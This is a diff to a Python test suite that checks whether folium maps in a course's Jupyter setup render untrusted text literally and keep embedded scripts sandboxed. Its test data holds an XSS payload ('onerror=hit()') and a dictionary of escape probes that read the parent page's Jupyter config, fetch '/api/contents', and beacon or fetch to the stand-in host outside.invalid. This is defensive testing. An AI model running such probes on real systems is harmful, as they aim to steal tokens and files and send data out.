@@ -13,7 +13,7 @@ from nbconvert import HTMLExporter
 import course
 from course.maps.offline import squeeze
 
-MAP = "Object.values(window).find(v => v instanceof L.Map)"
+MAP = "window[Object.keys(window).find((name) => /^map_[0-9a-f]+$/.test(name))]"
 ODD = (
     "`a` ${1/0} {{ 7*7 }} {% x %} {# y #} </script> \\ \\n ' \" \u2028 <!-- <x> & < 5 "
     "<img src=x onerror=hit()> Ж 江"
@@ -67,7 +67,8 @@ def test_any_text_is_drawn_as_it_is(show):
     folium.Marker([60, 140], popup=ODD, tooltip=ODD).add_to(group)
     folium.Marker([62, 140], popup=folium.Popup(ODD, parse_html=True)).add_to(m)
     tip = folium.GeoJsonTooltip(["name", "more"], aliases=[ODD, "more"])
-    folium.GeoJson(SQUARE, tooltip=tip, popup=folium.GeoJsonPopup(["name"])).add_to(m)
+    shapes = {"type": "FeatureCollection", "features": [SQUARE]}
+    folium.GeoJson(shapes, tooltip=tip, popup=folium.GeoJsonPopup(["name"])).add_to(m)
     LinearColormap(["red", "blue"], caption=ODD).add_to(m)
     folium.LayerControl().add_to(m)
     page = drawn(show(m.get_root().render()))
@@ -76,7 +77,7 @@ def test_any_text_is_drawn_as_it_is(show):
     said = [spoken(text) for text in page.evaluate(SAID)]
     holding = [text for text in said if spoken(ODD) in text]
     assert len(holding) == 6, said
-    assert spoken(page.inner_text(".legend .caption")) == spoken(ODD)
+    assert spoken(page.text_content(".legend .caption")) == spoken(ODD)
 
 
 def test_plain_tags_stay_and_html_can_be_asked_for(show):
@@ -112,7 +113,8 @@ def test_code_in_texts_and_html_does_not_run(show, guard):
         part.evaluate("part => part.click()")
     assert inside.evaluate("window.hit") is None and page.evaluate("window.hit") is None
     refused = guard.found().pop("console")
-    assert refused and all("Content Security Policy" in words for words in refused)
+    refusals = ("Content Security Policy", "Not allowed to load local resource")
+    assert refused and all(any(r in words for r in refusals) for words in refused)
 
 
 # what a script in a map may try -> it never gets this far
@@ -122,17 +124,22 @@ REACHES = {
     "parent": "parent.document.title",
     "config": "parent.document.getElementById('jupyter-config-data').textContent",
     "own frame": "window.frameElement.title",
-    "a window": "open('/api/status').document",
+    "a window": "await new Promise((f, no) => { const w = open('/api/status'); setTimeout(() =>"
+    " { try { f(w.document.body.innerText) } catch { no() } finally { w.close() } }, 2000); })",
     "page": "(top.location = 'about:blank', await new Promise((f) => setTimeout(f, 500)), 1)",
     "contents": "await fetch('/api/contents').then((answer) => answer.text())",
     "socket": "await new Promise((f, no) => { const s = new WebSocket('ws://outside.invalid');"
     " s.onopen = f; s.onerror = no; })",
     "picture": "await new Promise((f, no) => { const i = new Image(); i.onload = f;"
     " i.onerror = no; i.src = 'http://outside.invalid/x.png'; })",
-    "beacon": "navigator.sendBeacon('http://outside.invalid/') || no()",
+    "beacon": "(navigator.sendBeacon('http://outside.invalid/'), no())",
     "outside": "await fetch('http://outside.invalid/').then((answer) => answer.text())",
 }
-TRY = "async () => {{ try {{ const got = {}; return `${{got}}` || 'got' }} catch {{ return null }} }}"
+TRY = """async () => {{
+  const way = async () => {{ const got = {}; return `got ${{got}}`; }};
+  const late = new Promise((end) => setTimeout(end, 3000, null));
+  return Promise.race([way().catch(() => null), late]);
+}}"""
 
 
 def test_a_script_in_a_map_reaches_neither_jupyter_nor_the_network(lab, server, guard):
@@ -143,7 +150,8 @@ def test_a_script_in_a_map_reaches_neither_jupyter_nor_the_network(lab, server, 
         assert inside.evaluate(TRY.format(way)) is None, name
     assert lab.page.url == address
     found = guard.found()
-    assert set(found) <= {"console", "failed", "errors"}, found
+    assert all(words.endswith(": csp") for words in found.pop("failed", []))
+    assert set(found) == {"console"}, found
     lab.close()
 
 
@@ -159,7 +167,9 @@ def test_a_saved_page_reads_nothing_beside_it(show, tmp_path, guard):
         REACHES["outside"],
     ):
         assert page.evaluate(TRY.format(way)) is None, way
-    assert set(guard.found()) <= {"console"}
+    found = guard.found()
+    assert all(words.endswith(": csp") for words in found.pop("failed"))
+    assert set(found) == {"console"}
 
 
 def test_tiles_may_be_fetched_and_nothing_else_changes(show, guard):
